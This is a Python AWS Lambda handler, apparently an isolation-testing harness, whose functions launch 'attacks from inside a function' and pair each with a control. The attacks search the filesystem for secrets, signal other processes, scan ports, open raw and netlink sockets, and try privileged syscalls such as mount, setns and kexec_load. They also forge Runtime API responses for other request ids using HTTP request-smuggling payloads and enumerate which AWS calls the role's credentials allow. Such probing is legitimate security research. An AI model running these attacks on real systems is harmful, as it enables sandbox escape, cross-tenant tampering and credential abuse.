# Attacks from inside a function. Each takes the event's "args" and returns what it got; an attack
# that gets nothing has failed. A control is the same attack on something of its own.
import concurrent.futures, ctypes, errno, glob, json, os, select, signal, socket, struct, subprocess, sys, threading, time

API = os.environ["AWS_LAMBDA_RUNTIME_API"]
libc = ctypes.CDLL(None, use_errno=True)


def each(things, attempt, at_once=64):
    """The things of which an attempt says true and raises nothing."""
    def one(thing):
        try:
            return attempt(thing)
        except OSError:
            return False
    with concurrent.futures.ThreadPoolExecutor(at_once) as pool:
        return [t for t, ok in zip(things, pool.map(one, things)) if ok]


# Files.

def read(paths, **_):
    """Paths of which a byte, an entry or a link's target can be read."""
    def attempt(p):
        if os.path.islink(p) and not os.path.exists(p):
            return False
        return bool(os.listdir(p)) if os.path.isdir(p) else bool(open(p, "rb").read(1))
    return each(paths, attempt)


def search(roots, secrets, **_):
    """Secrets that stand in the name, the target or the first megabyte of a file below some roots."""
    found, end = set(), time.monotonic() + 20

    def look(path):
        data = path.encode(errors="replace")
        if os.path.islink(path):
            data += os.readlink(path).encode(errors="replace")
        if "/fd/" in path:  # its own pipes: what is read from them is missing elsewhere
            return found.update(s for s in secrets if s.encode() in data)
        try:
            fd = os.open(path, os.O_RDONLY | os.O_NONBLOCK)
            try:
                for _ in range(16):
                    piece = os.read(fd, 64 << 10)
                    data += piece
                    if not piece:
                        break
            finally:
                os.close(fd)
        except OSError:
            pass
        found.update(s for s in secrets if s.encode() in data)

    for root in roots:
        for at, dirs, files in os.walk(root):
            if at.count("/") > 6 or time.monotonic() > end:
                dirs[:] = []
            for name in files + dirs:
                if time.monotonic() < end:
                    look(os.path.join(at, name))
    return sorted(found)


def write(paths, **_):
    """Paths that can be written to."""
    def attempt(p):
        with open(p, "ab") as f:
            f.write(b"x")
        return True
    return each(paths, attempt)


# Processes.

def signals(**_):
    """Processes beyond its own and PID 1 that a signal reaches."""
    own = {os.getpid(), os.getppid(), 1, *map(int, os.listdir("/proc/self/task"))}
    got = []
    for p in set(range(2, 4096)) - own:  # without threads: they would be found
        try:
            os.kill(p, 0)
            got.append(p)
        except OSError:
            pass
    return got


def child_signal(**_):
    p = subprocess.Popen(["sleep", "9"])
    try:
        return each([p.pid], lambda pid: os.kill(pid, 0) is None)
    finally:
        p.kill(), p.wait()


# The network.

def reach(targets, **_):
    """Targets ([host, port]) that take a TCP connection or answer a datagram."""
    def attempt(t):
        host, port = t
        family = socket.AF_INET6 if ":" in host else socket.AF_INET
        with socket.socket(family, socket.SOCK_STREAM) as s:
            s.settimeout(0.7)
            if s.connect_ex((host, port)) == 0:
                return True
        with socket.socket(family, socket.SOCK_DGRAM) as s:
            s.settimeout(0.3)
            s.connect((host, port))
            s.send(b"hello")
            return bool(s.recv(64))
    return each(targets, attempt)


def scan(host, ports, **_):
    """Ports of a host that take a TCP connection."""
    def attempt(port):
        with socket.socket() as s:
            s.settimeout(0.4)
            return s.connect_ex((host, port)) == 0
    return each(range(ports[0], ports[1] + 1), attempt, 200)


def own_port(**_):
    with socket.create_server(("127.0.0.1", 0)) as s:
        return reach([["127.0.0.1", s.getsockname()[1]]])


def unix(paths, **_):
    """Unix sockets, "@" for abstract ones, that take a connection."""
    def attempt(p):
        with socket.socket(socket.AF_UNIX) as s:
            s.connect("\0" + p[1:] if p[0] == "@" else p)
            return True
    return each(paths, attempt)


def own_unix(path, **_):
    with socket.socket(socket.AF_UNIX) as s:
        s.bind("\0" + path[1:] if path[0] == "@" else path)
        s.listen()
        return unix([path])


def sockets(kinds, **_):
    """Kinds of sockets that can be made; an IPv6 one counts if it also has a way out."""
    ways = {
        "tcp": lambda: socket.socket(socket.AF_INET, socket.SOCK_STREAM),
        "raw icmp": lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP),
        "raw tcp": lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_TCP),
        "packet": lambda: socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3)),
        "vsock": lambda: socket.socket(socket.AF_VSOCK, socket.SOCK_STREAM),
        "ipv6": lambda: socket.socket(socket.AF_INET6, socket.SOCK_DGRAM).connect(("2001:db8::1", 53)),
        "ipv6 multicast": lambda: socket.socket(socket.AF_INET6, socket.SOCK_DGRAM).sendto(b"x", ("ff02::1", 53)),
        "netfilter": lambda: socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 12).send(b"x" * 16),
    }
    return each(kinds, lambda k: ways[k]() or True)


# Privileges.

CALLS = {  # of x86-64 and arm64
    "x86_64": {"mount": 165, "umount2": 166, "pivot_root": 155, "init_module": 175, "bpf": 321, "kexec_load": 246, "reboot": 169, "ptrace": 101,
               "sethostname": 170, "settimeofday": 164, "setns": 308, "perf_event_open": 298, "swapon": 167, "open_by_handle_at": 304, "getpid": 39},
    "aarch64": {"mount": 40, "umount2": 39, "pivot_root": 41, "init_module": 105, "bpf": 280, "kexec_load": 104, "reboot": 142, "ptrace": 117,
                "sethostname": 161, "settimeofday": 170, "setns": 268, "perf_event_open": 241, "swapon": 224, "open_by_handle_at": 265, "getpid": 172},
}


def privileges(names, **_):
    """What only root of a machine may do, and can be done."""
    table = CALLS[os.uname().machine]
    args = {"mount": (b"none", b"/tmp", b"tmpfs", 0, 0), "umount2": (b"/proc", 2), "pivot_root": (b"/tmp", b"/tmp"), "ptrace": (16, 1, 0, 0),
            "sethostname": (b"owned", 5), "settimeofday": (struct.pack("qq", 1, 1), 0), "swapon": (b"/tmp/swap", 0), "bpf": (0, b"\0" * 64, 64),
            "setns": (os.open("/proc/1/ns/net", os.O_RDONLY) if os.path.exists("/proc/1/ns/net") else -1, 0)}

    def attempt(name):
        if name == "setuid":
            return os.setuid(0) is None
        if name == "mknod":
            return os.mknod("/tmp/mem", 0o020666, os.makedev(1, 1)) is None
        if name == "chroot":
            return os.chroot("/tmp") is None
        return libc.syscall(table[name], *args.get(name, (0, 0, 0, 0, 0))) >= 0
    return each(names, attempt, 1)


# The Runtime API.

def call(request):
    """Sends bytes to the Runtime API on a connection of its own; the status of each answer."""
    host, port = API.split(":")
    with socket.create_connection((host, int(port)), 3) as s:
        s.settimeout(1)
        data = b""
        try:
            s.sendall(request)
            while piece := s.recv(65536):
                data += piece
        except OSError:
            pass
    return [int(line.split()[1]) for line in data.split(b"\r\n") if line.startswith(b"HTTP/1.1 ")]


def answer(id, body=b'"forged"', kind="response", head=""):
    return ("POST /2018-06-01/runtime/invocation/%s/%s HTTP/1.1\r\nHost: h\r\nContent-Length: %d\r\n%s\r\n" % (id, kind, len(body), head)).encode() + body


def forge(ids, **_):
    """Request ids that take an answer from here."""
    return each(ids, lambda id: 202 in call(answer(id)) + call(answer(id, b"{}", "error")), 1)


def smuggle(id, **_):
    """Ways to hide a request for an id of another in one that is allowed."""
    hidden = answer(id)
    ways = {
        "length and chunks": b"POST /2018-06-01/runtime/init/error HTTP/1.1\r\nHost: h\r\nContent-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n" + hidden,
        "two lengths": b"POST /2018-06-01/runtime/init/error HTTP/1.1\r\nHost: h\r\nContent-Length: 0\r\nContent-Length: %d\r\n\r\n" % len(hidden) + hidden,
        "chunked twice": b"POST /2018-06-01/runtime/init/error HTTP/1.1\r\nHost: h\r\nTransfer-Encoding: chunked\r\nTransfer-Encoding: identity\r\n\r\n0\r\n\r\n" + hidden,
        "folded header": b"GET /2018-06-01/ping HTTP/1.1\r\nHost: h\r\nX: y\r\n z\r\n\r\n" + hidden,
        "forwarded for": answer(id, head="X-Forwarded-For: 169.254.100.1\r\nForwarded: for=127.0.0.1\r\nX-Real-IP: 127.0.0.1\r\n"),
        "absolute URI": hidden.replace(b"POST /", b"POST http://127.0.0.1:9001/"),
        "dots": answer("../invocation/" + id), "escaped dots": answer("..%2Finvocation%2F" + id),
        "newline in the path": answer("x%0d%0a%0d%0a" + id), "null in the path": answer(id + "%00"),
    }
    return each(list(ways), lambda w: 202 in call(ways[w]), 1)


# Credentials.

def aws(calls, **_):
    """Calls ("service.method", arguments) that the region allows with the credentials of this role."""
    import boto3, botocore.exceptions

    def attempt(c):
        service, method = c[0].split(".")
        try:
            getattr(boto3.client(service), method)(**c[1])
            return True
        except (botocore.exceptions.ClientError, botocore.exceptions.BotoCoreError):
            return False
    return [c[0] for c in each(calls, attempt, 4)]


def handler(event, context):
    args = dict(event.get("args") or {}, me=context.aws_request_id)
    return {"got": globals()[event["attack"]](**args)}
